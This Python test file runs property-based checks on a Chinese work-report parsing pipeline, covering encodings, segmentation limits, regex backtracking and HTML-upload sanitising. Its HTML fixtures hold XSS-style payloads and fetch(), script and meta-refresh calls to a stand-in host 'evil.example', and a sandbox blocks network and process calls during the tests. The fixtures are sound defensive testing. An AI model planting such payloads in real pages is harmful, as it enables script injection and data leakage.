"""Property-based tests (hypothesis) of the text pipeline on hostile input.

Decoding arbitrary bytes and mixed encodings, segmenting arbitrary Unicode,
enormous paragraphs and deeply repeated enumerators, tagging arbitrary text,
and reading HTML uploads with scripts, styles, comments and remote references
(text only: nothing fetched, nothing run). Every run is derandomized, so CI sees
the same examples each time.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from policytag.text import EmptyReportError, ReportDecodeError, decode_report, parse_report
from policytag.text.items import HARD_MAX_SEGMENT_CHARS
from policytag.text.uploads import read_upload

ROOT = Path(__file__).resolve().parents[2]
PARTS = {"review", "plan", "problems", "other"}

FAST = settings(max_examples=150, derandomize=True, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow])

# --- strategies -------------------------------------------------------------------------------

CJK = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF)
# Report-like pieces: enumerators, headings, punctuation (full- and half-width), line breaks of all kinds,
# odd spaces and zero-width characters, zone names, years, chrome lines.
PIECES = [
    "一是", "二是", "三是", "十二是", "第一,", "第二，", "第三是", "(1)", "(2)", "（1）", "（2）", "（3）", "1.", "2.",
    "3、", "1．", "①", "②", "③", "一方面", "另一方面", "一、", "二、", "三、", "（一）", "（二）", "(三)",
    "。", "；", ";", "！", "？", "?", "，", ",", "、", "：", ":", "“", "”", "…", "——", "（", "）",
    "\n", "\r\n", "\r", "\n\n", "\u3000", " ", "  ", "\t", "\f", "\v", "\u2028", "\x85", "\u00a0",
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u202e",
    "工作总结", "工作计划", "存在问题", "主要成效", "下一步工作安排", "2024年", "2023年",
    "清远高新区", "河源国家高新区", "经济技术开发区", "记者 张三", "张三 摄", "当前位置：首页", "打印 关闭",
    "来源：", "ａｂｃ１２３", "全年新签约项目32个,计划总投资156亿元。", "开展安全隐患排查整治。",
]
PIECE = st.one_of(st.sampled_from(PIECES), st.text(CJK, min_size=1, max_size=12), st.text(max_size=6))
REPORT_TEXT = st.lists(PIECE, max_size=60).map("".join)
# Realistic Chinese prose: common characters of work reports (no byte-level tricks).
PROSE = st.text(st.sampled_from(list("园区全年新签约项目计划总投资亿元引进企业高新技术创新平台安全生产招商营商环境党建"
                                     "工作总结推进完成建设发展服务改革")), min_size=1, max_size=200)


# --- helpers ----------------------------------------------------------------------------------

def check_report(text: str, report) -> None:
    """The invariants every parsed report satisfies."""
    previous_end, ids = 0, set()
    for seg in report.segments:
        assert 0 <= seg.start < seg.end <= len(text), (seg.start, seg.end, len(text))
        assert text[seg.start:seg.end] == seg.text
        assert seg.text == seg.text.strip(), "segments are stripped of surrounding whitespace"
        assert seg.start >= previous_end, "segments are in order and do not overlap"
        previous_end = seg.end
        assert seg.end - seg.start <= HARD_MAX_SEGMENT_CHARS
        assert seg.id not in ids
        ids.add(seg.id)
        assert isinstance(seg.heading, list) and all(isinstance(h, str) for h in seg.heading)
        assert seg.part in PARTS
    assert report.title is None or isinstance(report.title, str)
    assert report.zone is None or isinstance(report.zone, str)
    assert all(isinstance(y, int) for y in report.years)
    assert report.year == (report.years[0] if report.years else None)
    json.dumps(report.as_dict(), ensure_ascii=False)  # what the API serialises


def parse_checked(text: str):
    """``parse_report`` that may only refuse with EmptyReportError; checks invariants and determinism."""
    try:
        report = parse_report(text)
    except EmptyReportError:
        assert not text.strip() or not any("\u4e00" <= ch <= "\u9fff" for ch in text)
        return None
    check_report(text, report)
    assert parse_report(text).as_dict() == report.as_dict(), "parsing is deterministic"
    return report


def decodes_or_refuses(data: bytes):
    """``decode_report`` returns ``(str, encoding)`` or raises ReportDecodeError; nothing else."""
    try:
        text, encoding = decode_report(data)
    except ReportDecodeError:
        return None
    assert isinstance(text, str) and text.strip()
    assert encoding in ("utf-8", "utf-8-sig", "gb18030")
    assert data.decode(encoding) == text
    return text


def valid_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


# --- decoding ---------------------------------------------------------------------------------

@FAST
@given(st.binary(max_size=600))
@example(b"")
@example(b"\xef\xbb\xbf")
@example(b"\xef\xbb\xbf\x00")
@example(b"\xff\xfe" + "报告".encode("utf-16-le"))
@example(b"\x81\x30\x81\x30" * 10)
@example(b"\x80" * 100)
def test_decode_arbitrary_bytes_returns_text_or_refuses(data):
    decodes_or_refuses(data)


ENCODINGS = ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16", "utf-16-le", "utf-16-be", "big5", "latin-1"]


@FAST
@given(st.lists(st.tuples(st.one_of(REPORT_TEXT, PROSE), st.sampled_from(ENCODINGS)), min_size=1, max_size=6))
def test_decode_mixed_encodings_returns_text_or_refuses(chunks):
    data = b"".join(text.encode(encoding, errors="replace") for text, encoding in chunks)
    decodes_or_refuses(data)


@FAST
@given(st.text(min_size=1, max_size=300))
def test_utf8_text_round_trips(text):
    assume(not text.startswith("\ufeff"))  # a leading BOM is removed, by design
    data = text.encode("utf-8")
    result = decodes_or_refuses(data)
    if result is not None:
        assert result == text
    # Refusal is only for blank, binary-looking or control-dominated text.
    plain = all(ch.isprintable() or ch in "\r\n\t" for ch in text) and not any(
        0xE000 <= ord(ch) <= 0xF8FF for ch in text)
    if plain and text.strip() and "\x00" not in text:
        assert result == text


@FAST
@given(st.one_of(PROSE, REPORT_TEXT))
def test_utf8_with_bom_round_trips(text):
    result = decodes_or_refuses(b"\xef\xbb\xbf" + text.encode("utf-8"))
    if result is not None:
        assert result == text  # exactly one BOM is removed


@FAST
@given(st.text(CJK, min_size=1, max_size=200), st.sampled_from(["utf-8", "gb18030"]))
def test_chinese_text_round_trips_in_utf8_and_gb18030(text, encoding):
    data = text.encode(encoding)
    # UTF-8 is tried first: a GB18030 byte string that is also valid UTF-8 (such as 一 = D2 BB, which is
    # UTF-8 for U+04BB) is read as UTF-8. Real reports, with punctuation and many characters, never are.
    assume(encoding == "utf-8" or not valid_utf8(data))
    assert decode_report(data) == (text, encoding)


@FAST
@given(PROSE, st.sampled_from(["gb18030", "gbk"]))
def test_report_prose_round_trips_in_gbk(text, encoding):
    data = (text + "。").encode(encoding)
    assume(not valid_utf8(data))
    assert decode_report(data)[0] == text + "。"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk"])
def test_seed_reports_round_trip_in_every_supported_encoding(encoding):
    for path in sorted((ROOT / "seeds").glob("*.txt")):
        text = path.read_text(encoding="utf-8").removeprefix("\ufeff")
        text = text.encode(encoding, errors="replace").decode(encoding)  # GBK has no \xa0 and the like
        assert decode_report(text.encode(encoding))[0] == text, path.name


@FAST
@given(st.one_of(PROSE, REPORT_TEXT))
def test_utf16_is_refused_or_decoded_never_crashes(text):
    decodes_or_refuses(text.encode("utf-16"))  # UTF-16 is not supported; it must not crash


# --- segmentation -----------------------------------------------------------------------------

@FAST
@given(st.text(max_size=400))
@example("工作" + " " * 2000 + "总结内容很多")  # a whitespace run longer than the hard cap inside one line
@example("中" + "\u3000" * 900 + "文。")
@example("\ufeff标题\r\n\r\n  (一)强化创新。一是建平台,　新增3家。二是育企业;新增高企5家。\r\n")
def test_parse_arbitrary_unicode(text):
    parse_checked(text)


@FAST
@given(REPORT_TEXT)
def test_parse_report_like_text(text):
    parse_checked(text)


LINE = st.lists(PIECE, min_size=1, max_size=12).map("".join)


@FAST
@given(st.lists(LINE, min_size=1, max_size=40), st.sampled_from(["\n", "\r\n", "\r", "\n\n", "\n\u3000\u3000"]))
def test_parse_multi_line_reports(lines, newline):
    parse_checked(newline.join(lines))


# Enormous single paragraphs and deeply repeated enumerators: parsing must stay (near) linear. The time
# bounds are generous (today each input takes well under 2 s); a quadratic blow-up takes minutes or hours.
ENORMOUS = {
    "no sentence end": "中" * 200_000,
    "no punctuation, spaces": ("中文 " * 70_000)[:200_000],
    "commas only": "招商引资，" * 40_000,
    "sentence ends": "招商引资成效明显。" * 25_000,
    "whitespace run": "中" + " " * 200_000 + "文",
    "ideographic spaces": "中\u3000" * 100_000,
    "zero-width": "中\u200b" * 100_000,
    "一是 二是 … repeated": "。".join(f"{n}是推进工作" for n in "一二三四五六七八九" * 2_000),
    "一是 without sentence ends": "".join(f"{n}是推进" for n in "一二三四五六七八九" * 20_000),
    "(1)(2)… climbing to 99, repeated": "".join(f"({i})加强管理；" for i in range(1, 100)) * 300,
    "(n) with n cycling": "".join(f"({i % 99 + 1})加强管理；" for i in range(20_000)),
    "1. 2. …": "".join(f"{i % 99 + 1}.加强管理；" for i in range(20_000)),
    "①②": "①加强。②推进。" * 20_000,
    "第一，第二，": "".join(f"第{c}，推进工作。" for c in "一二三四五六七八九" * 5_000),
    "nested enumerators": "一、" + "".join(f"{c}是（1）加强；（2）推进；1.做好；2.做实；①抓好；②抓实。"
                                         for c in "一二三四五六七八九" * 1_000),
    "headings and items, many lines": "\n".join("一、工作回顾\n（一）招商\n1.项目建设。一是加强。二是推进。"
                                                for _ in range(5_000)),
    "hard-wrapped lines": "\n".join(["全年新签约项目32个，计划总投资156亿元，"] * 20_000),
    "years and zones": "清远高新区2024年，河源国家高新区2023年，" * 10_000,
    "problems lead": "存在问题" * 50_000,
    "many short lines": "中\r" * 100_000,
}


@pytest.mark.parametrize("name", list(ENORMOUS))
def test_enormous_inputs_parse_in_bounded_time(name):
    text = ENORMOUS[name]
    started = time.perf_counter()
    report = parse_report(text)
    elapsed = time.perf_counter() - started
    check_report(text, report)
    assert elapsed < 30, f"{name}: {elapsed:.1f} s for {len(text)} characters"


@settings(max_examples=15, derandomize=True, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(st.lists(PIECE, min_size=1, max_size=6).map("".join), st.integers(500, 5_000))
def test_repeated_units_parse_and_keep_invariants(unit, times):
    """Any short unit repeated thousands of times (one huge paragraph or thousands of lines)."""
    text = unit * times
    started = time.perf_counter()
    parse_checked(text)
    assert time.perf_counter() - started < 60


# Lines built to make a backtracking regular expression explode (nested quantifiers over spaces and names).
ADVERSARIAL_LINES = [
    "中中" + "   中中" * 40 + "x",  # photo-credit shape, no 摄 at the end
    "中中" + " 、 中中" * 40 + "x",
    "张三" + "  李四" * 40 + " /",
    "► " + "记者记者  " * 30 + "x",
    "本报记者" + " " * 3000 + "x",
    "2024" + " " * 5000 + "x",
    "当前位置" + "：" * 5000,
    "打印 " * 2000 + "x",
]


def test_line_patterns_do_not_backtrack_catastrophically():
    """Every adversarial line, alone, as a title, and above another line, parses in seconds.

    Run in a subprocess with a timeout: a catastrophic regular expression cannot be interrupted in-process.
    """
    code = ("import sys, json\nfrom policytag.text import parse_report\n"
            "for line in json.loads(sys.stdin.read()):\n"
            "    for text in (line, '标题\\n' + line + '\\n正文。',\n"
            "                 '正文段落。\\n' + line + '\\n' + line + '\\n结束。'):\n"
            "        parse_report('中' + text)\n")
    started = time.perf_counter()
    try:
        subprocess.run([sys.executable, "-c", code], input=json.dumps(ADVERSARIAL_LINES), text=True, check=True,
                       timeout=60, cwd=ROOT, capture_output=True)
    except subprocess.TimeoutExpired:
        pytest.fail("parsing an adversarial line did not finish in 60 s (catastrophic backtracking)")
    assert time.perf_counter() - started < 60


# --- tagging ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def tagger(champion):
    """The session's TF-IDF champion (trained on the project's labels, loaded from its MLflow store)."""
    return champion.tagger


@settings(max_examples=60, derandomize=True, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(text=st.one_of(REPORT_TEXT, st.text(max_size=200), PROSE))
def test_tagging_arbitrary_text(tagger, text):
    try:
        first = tagger.tag_document(text)
    except EmptyReportError:
        return
    assert tagger.tag_document(text) == first, "tagging is deterministic"
    themes = set(tagger.themes)
    for seg in first.segments:
        assert set(seg.labels) <= themes
        assert set(seg.scores) == themes
        assert all(0.0 <= s <= 1.0 for s in seg.scores.values()), seg.scores
        assert text[seg.start:seg.end] == seg.text
    json.dumps(first.as_dict(), ensure_ascii=False, allow_nan=False)


# --- HTML uploads -----------------------------------------------------------------------------

SECRET = "SECRET"  # everything that must not reach the text carries it; visible text never contains it
EVIL = "http://evil.example"
VISIBLE_TEXT = st.text(st.sampled_from(list("中文报告招商引资项目企业安全生产创新营商环境。，；：！？、（）“”"
                                             "-/=' abcxyz019")),
                       min_size=1, max_size=12)
ENTITIES = [("&amp;", "&"), ("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&#20013;", "中"), ("&#x6587;", "文"),
            ("&nbsp;", " "), ("&copy;", "©"), ("&mdash;", "—"), ("&ldquo;", "“")]
# Script and style bodies: markup-looking, quoted, commented, and decoy end tags that do not end them.
RAW_BODY = st.lists(st.sampled_from([
    SECRET, "alert('SECRET')", "<p>SECRET</p>", "<!--", "-->", "</scr", "ipt>", "</ script>", "</ style>",
    "'</p>'", '"<b>"', "document.write('<img src=" + EVIL + "/x>')", "fetch('" + EVIL + "')",
    "body{background:url(" + EVIL + "/bg.png)}", "@import url(" + EVIL + "/x.css);", "<", ">", "&amp;", "中文",
    "\n", " ", "/*", "*/",
]), max_size=8).map(lambda parts: SECRET + "".join(parts)).filter(
    lambda body: not re.search(r"</(script|style)[\t\n\f\r />]", body, re.I))  # only decoys, no real end tag
ATTRIBUTE = st.sampled_from([
    f'title="{SECRET} <script>alert(1)</script>"', f"onclick=\"{SECRET}()\"",
    f"style='background:url({EVIL}/{SECRET})'",
    f'data-x="{SECRET}&quot;"', 'class="a b"', f"id={SECRET}", f'href="javascript:{SECRET}()"',
])
VOID = st.sampled_from([
    f'<img src="{EVIL}/a.png" onerror="alert(\'{SECRET}\')">', f"<img src={EVIL}/b.png onerror=alert(1)>",
    f'<link rel="stylesheet" href="{EVIL}/s.css">', f'<link rel=preload href="{EVIL}/{SECRET}.js" as=script>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/{SECRET}">', f'<base href="{EVIL}/">',
    f'<iframe src="{EVIL}/{SECRET}"></iframe>', f'<iframe srcdoc="<p>{SECRET}</p>"></iframe>',
    f'<embed src="{EVIL}/x.swf">', f'<object data="{EVIL}/{SECRET}"></object>', "<br>", "<br/>", "<hr />",
    f'<input value="{SECRET}">', f'<video src="{EVIL}/v.mp4" poster="{EVIL}/p.png"></video>',
    f'<svg><image href="{EVIL}/{SECRET}.svg"/></svg>',
])


@st.composite
def hidden_element(draw):
    """A script/style-like element in one of the forms a browser treats as hidden; ``(html, "")``."""
    tag = draw(st.sampled_from(["script", "style", "noscript", "template", "title"]))
    spelled = draw(st.sampled_from([tag, tag.upper(), tag.capitalize()]))
    if tag in ("script", "style"):
        body = draw(RAW_BODY)
        attrs = draw(st.sampled_from(["", ' type="text/javascript"', f' src="{EVIL}/x.js"', " async defer",
                                      f' onload="{SECRET}"']))
        opener = draw(st.sampled_from([f"<{spelled}{attrs}>", f"<{spelled}{attrs}/>", f"<{spelled}{attrs} />"]))
        closer = draw(st.sampled_from([f"</{spelled}>", f"</{spelled} >", f"</{spelled}\n>"]))
        return opener + body + closer, ""
    inner = draw(st.lists(st.one_of(st.just(f"<p>{SECRET}</p>"), st.just(SECRET), VOID,
                                    st.just(f"<script>{SECRET}</script>")), max_size=4))
    return f"<{spelled}>{SECRET}{''.join(inner)}</{spelled}>", ""


@st.composite
def comment(draw):
    body = draw(st.lists(st.sampled_from([SECRET, "<p>", "</p>", f"<script>{SECRET}</script>", " - ", "->", "<!",
                                          f'<img src="{EVIL}/c.png">', "中文", "\n"]), max_size=6))
    closer = draw(st.sampled_from(["-->", "--!>", " -->"]))
    return "<!--" + SECRET + "".join(body) + closer, ""


def element(children):
    @st.composite
    def build(draw):
        tag = draw(st.sampled_from(["p", "div", "span", "b", "i", "a", "td", "th", "tr", "li", "ul", "h1", "h3",
                                    "section", "article", "font", "center", "table", "blockquote", "pre", "body"]))
        attrs = draw(st.lists(ATTRIBUTE, max_size=3))
        kids = draw(st.lists(children, max_size=5))
        html = f"<{tag}{''.join(' ' + a for a in attrs)}>" + "".join(h for h, _ in kids) + f"</{tag}>"
        return html, "".join(v for _, v in kids)
    return build()


LEAF = st.one_of(
    VISIBLE_TEXT.map(lambda t: (t, t)),
    st.sampled_from(ENTITIES),
    hidden_element(),
    comment(),
    VOID.map(lambda h: (h, "")),
)
NODE = st.recursive(LEAF, element, max_leaves=25)


@st.composite
def html_page(draw):
    nodes = draw(st.lists(NODE, min_size=1, max_size=6))
    prolog = draw(st.sampled_from(["", "<!DOCTYPE html>", '<?xml version="1.0" encoding="utf-8"?>',
                                   '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/x.dtd">']))
    head = draw(st.sampled_from(["", f"<head><title>{SECRET}</title><meta charset=utf-8>"
                                     f'<script src="{EVIL}/a.js"></script></head>']))
    tail = draw(st.sampled_from(["", f"<!-- {SECRET} never closed <p>{SECRET}</p>", f"<script>{SECRET} never closed",
                                 f"<style>{SECRET}"]))
    html = prolog + "<html>" + head + "<body>" + "".join(h for h, _ in nodes) + "</body></html>" + tail
    return html, "".join(v for _, v in nodes)


@contextlib.contextmanager
def sandbox():
    """Any attempt to open a connection, resolve a name or start a program is recorded and refused.

    Recorded as well as raised, so that an attempt whose exception something swallows still fails the test.
    """
    attempts: list = []

    def refuse(what):
        def refused(*args, **kwargs):
            attempts.append((what, args[:2]))
            raise AssertionError(f"{what} attempted while reading an upload: {args[:2]!r}")
        return refused

    with pytest.MonkeyPatch.context() as mp:
        for name in ("connect", "connect_ex", "sendto"):
            mp.setattr(socket.socket, name, refuse(f"socket.{name}"))
        for name in ("create_connection", "getaddrinfo"):
            mp.setattr(socket, name, refuse(f"socket.{name}"))
        mp.setattr(subprocess.Popen, "__init__", refuse("subprocess.Popen"))
        for name in ("system", "popen", "execv", "execve", "posix_spawn", "fork"):
            mp.setattr(os, name, refuse(f"os.{name}"))
        yield attempts
    assert attempts == [], f"network access or program start attempted: {attempts!r}"


def test_the_sandbox_catches_a_fetch_even_when_its_error_is_swallowed():
    with pytest.raises(AssertionError, match="attempted"):
        with sandbox():
            try:
                urllib.request.urlopen(f"{EVIL}/{SECRET}.js", timeout=1)
            except Exception:  # noqa: BLE001 - a reader that swallowed the failure
                pass


def squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text)


@settings(max_examples=200, derandomize=True, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(html_page(), st.sampled_from(["utf-8", "utf-8-sig"]), st.sampled_from(["page.html", "PAGE.HTM", None]))
def test_html_upload_yields_exactly_the_visible_text(page, encoding, filename):
    html, visible = page
    with sandbox():
        try:
            text = read_upload(html.encode(encoding), filename, "text/html; charset=utf-8")
        except ReportDecodeError:
            assert not squeeze(html)
            return
    assert SECRET not in text, "script, style, comment, title or attribute content reached the text"
    assert squeeze(text) == squeeze(visible)
    for tag in ("script", "style", "iframe", "img", "link", "meta", "object", "embed", "p", "div", "!--"):
        assert f"<{tag}" not in text.lower() or f"<{tag}" in visible.lower()


def test_html_upload_in_gb18030_with_remote_references_fetches_nothing():
    html = (f'<html><head><meta charset="gbk"><link rel="stylesheet" href="{EVIL}/s.css">'
            f'<script src="{EVIL}/a.js"></script><script>fetch("{EVIL}/{SECRET}")</script>'
            f'<style>@import url({EVIL}/x.css);</style></head>'
            f'<body><img src="{EVIL}/a.png" onerror="alert(1)"><iframe src="{EVIL}/f"></iframe>'
            f"<p>清远高新区2024年工作总结</p><p>全年新签约项目32个，计划总投资156亿元。</p>"
            f"<script/>{SECRET}</script><!--{SECRET}--!><p>开展安全隐患排查整治。</p></body></html>")
    with sandbox():
        text = read_upload(html.encode("gb18030"), "report.htm")
    assert text == "清远高新区2024年工作总结\n全年新签约项目32个，计划总投资156亿元。\n开展安全隐患排查整治。"
